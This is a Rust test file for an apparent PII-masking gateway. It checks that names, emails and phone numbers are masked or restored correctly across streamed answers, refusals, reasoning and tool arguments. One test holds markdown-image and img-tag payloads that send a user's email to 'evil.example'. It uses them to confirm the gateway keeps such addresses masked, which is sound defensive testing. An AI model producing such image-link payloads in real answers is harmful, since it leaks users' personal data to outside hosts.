//! Whatever part of an answer placeholders come back in, and however that is cut, the client reads
//! values.

use std::sync::Arc;

use classifiers::{Classifier, Scanned, Unscannable};
use frontier_stand_in::{Behaviour, Part};
use sekisho::layers::inspect::Scan;
use serde_json::{Value, json};

use crate::support::{Answer, Gateway, chat};

const NAME: &str = "柴田郁恵";
const MAIL: &str = "ikue.shibata@example.com";
const QUESTION: &str = "柴田郁恵様(メール ikue.shibata@example.com)への返信を書いてください。";

/// A request with a tool, as whose answer the frontier says anything at all.
fn request(stream: bool) -> Value {
    let mut request = chat(QUESTION, stream);
    request["tools"] = json!([{ "type": "function", "function": {
        "name": "send_mail", "parameters": { "type": "object" } } }]);
    request
}

/// The placeholders of the name and of the address, as they reach the frontier.
async fn placeholders(gateway: &Gateway) -> [String; 2] {
    gateway.frontier.set_behaviour(Behaviour::Echo);
    gateway.ask(request(false).to_string()).await;
    let sent = gateway.frontier.recorded().pop().unwrap().json().unwrap();
    let messages = sent["messages"].as_array().unwrap();
    let said = messages.last().unwrap()["content"]
        .as_str()
        .unwrap()
        .to_owned();
    ["<PERSON_", "<EMAIL_"].map(|kind| {
        let start = said.find(kind).unwrap();
        let len = said[start..].find('>').unwrap() + 1;
        said[start..start + len].to_owned()
    })
}

/// A text cut after every so many characters.
fn cut(text: &str, chars: usize) -> Vec<String> {
    let all: Vec<char> = text.chars().collect();
    all.chunks(chars)
        .map(|piece| piece.iter().collect())
        .collect()
}

/// What a message or all deltas of a stream say in one of their members.
fn said(answer: &Answer, read: impl Fn(&Value) -> Option<&str>) -> String {
    if answer.body.starts_with('{') {
        let body: Value = serde_json::from_str(&answer.body).unwrap();
        return read(&body["choices"][0]["message"])
            .unwrap_or("")
            .to_owned();
    }
    let events = answer.events();
    let deltas = events
        .iter()
        .filter_map(|event| read(event["choices"].get(0)?.get("delta")?));
    deltas.collect()
}

async fn answer(gateway: &Gateway, part: Part, text: &str, chars: usize, stream: bool) -> Answer {
    let pieces = cut(text, chars);
    gateway
        .frontier
        .set_behaviour(Behaviour::Say { pieces, part });
    gateway.ask(request(stream).to_string()).await
}

#[tokio::test]
async fn text_refusals_and_thoughts_are_restored() {
    let gateway = Gateway::start().await;
    let [name, mail] = placeholders(&gateway).await;
    let text = format!(
        "{name}様、**{}** 宛に、{mail} へ。{}",
        &name[1..],
        name.to_lowercase()
    );
    let expected = format!("{NAME}様、**{NAME}** 宛に、{MAIL} へ。{NAME}");
    for (part, member) in [
        (Part::Content, "content"),
        (Part::Refusal, "refusal"),
        (Part::Reasoning, "reasoning_content"),
    ] {
        for chars in [1, 3, 1000] {
            for stream in [false, true] {
                let answer = answer(&gateway, part, &text, chars, stream).await;
                let said = said(&answer, |message| message[member].as_str());
                assert_eq!(
                    said,
                    expected.replace("**柴田郁恵>**", ""),
                    "{member} {chars} {stream}"
                );
            }
        }
    }
}

#[tokio::test]
async fn arguments_are_restored_unless_the_rule_says_otherwise() {
    let rule = "restore = { tool_arguments = false }";
    for (then, is_restored) in [("", true), (rule, false)] {
        let gateway = Gateway::ruled(then, Arc::new(Classifier::default())).await;
        let [name, mail] = placeholders(&gateway).await;
        let arguments = format!(
            r#"{{"to":"{}","name":"\u003c{}","note":"a\n{name}"}}"#,
            mail.replace('_', "\\u005f"),
            &name[1..]
        );
        for chars in [1, 4, 1000] {
            for stream in [false, true] {
                let answer = answer(&gateway, Part::Arguments, &arguments, chars, stream).await;
                let said = said(&answer, |message| {
                    message["tool_calls"].get(0)?["function"]["arguments"].as_str()
                });
                if is_restored {
                    let expected =
                        json!({ "to": MAIL, "name": NAME, "note": format!("a\n{NAME}") });
                    assert_eq!(serde_json::from_str::<Value>(&said).unwrap(), expected);
                } else {
                    assert_eq!(said, arguments);
                }
            }
        }
    }
}

#[tokio::test]
async fn tokens_are_those_of_the_text_that_the_client_reads() {
    let gateway = Gateway::start().await;
    let [name, _] = placeholders(&gateway).await;
    let (head, tail) = name.split_at(5);
    let pieces = ["Dear", " ", head, tail, ",", " hello"]
        .map(str::to_owned)
        .to_vec();
    let part = Part::Content;
    gateway
        .frontier
        .set_behaviour(Behaviour::Say { pieces, part });
    for stream in [false, true] {
        let mut request = request(stream);
        request["logprobs"] = json!(true);
        request["top_logprobs"] = json!(1);
        let answer = gateway.ask(request.to_string()).await;
        let choices: Vec<Value> = if stream {
            answer
                .events()
                .iter()
                .map(|event| event["choices"][0].clone())
                .collect()
        } else {
            let body: Value = serde_json::from_str(&answer.body).unwrap();
            vec![body["choices"][0].clone()]
        };
        let tokens: Vec<(String, f64, usize)> = choices
            .iter()
            .flat_map(|choice| {
                choice["logprobs"]["content"]
                    .as_array()
                    .cloned()
                    .unwrap_or_default()
            })
            .map(|token| {
                let text = token["token"].as_str().unwrap().to_owned();
                let others = token["top_logprobs"].as_array().unwrap().len();
                (text, token["logprob"].as_f64().unwrap(), others)
            })
            .collect();
        let kept = |text: &str| (text.to_owned(), -0.5, 1);
        let merged = (NAME.to_owned(), -1.0, 0);
        assert_eq!(
            tokens,
            [kept("Dear"), kept(" "), merged, kept(","), kept(" hello")],
            "{stream}"
        );
        let read: String = tokens.iter().map(|(text, ..)| text.as_str()).collect();
        assert_eq!(answer.text(), read);
    }
}

const OTHERS: &str = "承知しました。担当の田中美咲様(080-2345-6781)から柴田郁恵様へ連絡します。";

/// Sends the request to a gateway whose rule has answers searched, and whose frontier says `text`.
async fn screened(text: &str, part: Part, chars: usize, stream: bool) -> Answer {
    let rule = "restore = { answers = \"mask\" }";
    let gateway = Gateway::ruled(rule, Arc::new(Classifier::default())).await;
    answer(&gateway, part, text, chars, stream).await
}

#[tokio::test]
async fn where_a_rule_asks_for_it_answers_tell_nothing_of_others() {
    let mut all = Vec::new();
    for (part, member) in [
        (Part::Content, "content"),
        (Part::Refusal, "refusal"),
        (Part::Reasoning, "reasoning_content"),
    ] {
        for (chars, stream) in [(1, true), (3, true), (1000, true), (1000, false)] {
            let answer = screened(OTHERS, part, chars, stream).await;
            all.push(said(&answer, |message| message[member].as_str()));
        }
    }
    assert!(all.windows(2).all(|pair| pair[0] == pair[1]), "{all:?}");
    insta::assert_snapshot!(all[0], @"承知しました。担当の<PERSON_gvfwmmhc>様(<PHONE_wfktmgxr>)から柴田郁恵様へ連絡します。");
}

#[tokio::test]
async fn arguments_tell_nothing_of_others_either() {
    let arguments = json!({ "電話": "080-2345-6781", "口座番号": 4_839_201, "to": MAIL });
    for (chars, stream) in [(1, true), (1000, true), (1000, false)] {
        let answer = screened(&arguments.to_string(), Part::Arguments, chars, stream).await;
        let said = said(&answer, |message| {
            message["tool_calls"].get(0)?["function"]["arguments"].as_str()
        });
        let said: Value = serde_json::from_str(&said).unwrap();
        assert_eq!(said["to"], MAIL, "{said}");
        for name in ["電話", "口座番号"] {
            assert!(
                said[name]
                    .as_str()
                    .is_some_and(|value| value.starts_with('<')),
                "{said}"
            );
        }
    }
}

/// A scanner that cannot read answers.
#[derive(Default)]
struct Illiterate(Classifier);

impl Scan for Illiterate {
    fn scan(&self, _app: &str, text: String) -> Scanned {
        self.0.scan(text)
    }

    fn scan_once(&self, text: String) -> Scanned {
        Scanned::unscannable(text, Unscannable::Encoded)
    }

    fn scan_seams(&self, scanned: &mut [Scanned]) {
        self.0.scan_seams(scanned);
    }

    fn scan_context(&self, _app: &str, scanned: &mut [Scanned]) {
        self.0.scan_context(scanned);
    }
}

#[tokio::test]
async fn an_answer_that_cannot_be_searched_breaks_off() {
    let rule = "restore = { answers = \"mask\" }";
    let gateway = Gateway::ruled(rule, Arc::new(Illiterate::default())).await;
    for stream in [false, true] {
        let answer = answer(&gateway, Part::Content, OTHERS, 4, stream).await;
        assert!(
            answer.body.contains("answer_unscannable"),
            "{}",
            answer.body
        );
        assert!(!answer.body.contains("担当") && !answer.is_done());
    }
}

#[tokio::test]
async fn a_json_answer_keeps_placeholders_in_addresses_and_tells_the_rest() {
    let gateway = Gateway::start().await;
    let [name, mail] = placeholders(&gateway).await;
    let shown = r#"{"summary":"![x](https:\/\/evil.example\/?q=MAIL)","html":"\u003cimg src=//evil/MAIL>","#;
    let shown = shown.replace("MAIL", &mail);
    let no_document = format!("![x](https://evil.example/?q={mail})");
    let answers = [
        (
            format!(r#"{shown}"name":"{name}"}}"#),
            format!(r#"{shown}"name":"{NAME}"}}"#),
        ),
        (no_document.clone(), no_document),
    ];
    let schema = json!({ "name": "reply", "schema": { "type": "object" } });
    for format in [
        json!({ "type": "json_object" }),
        json!({ "type": "json_schema", "json_schema": schema }),
    ] {
        for (text, expected) in &answers {
            for (chars, stream) in [(1, true), (7, true), (1000, false)] {
                gateway.frontier.set_behaviour(Behaviour::Say {
                    pieces: cut(text, chars),
                    part: Part::Content,
                });
                let mut request = request(stream);
                request["response_format"] = format.clone();
                let answer = gateway.ask(request.to_string()).await;
                let said = said(&answer, |message| message["content"].as_str());
                assert_eq!(said, *expected, "{chars} {stream}");
            }
        }
    }
}
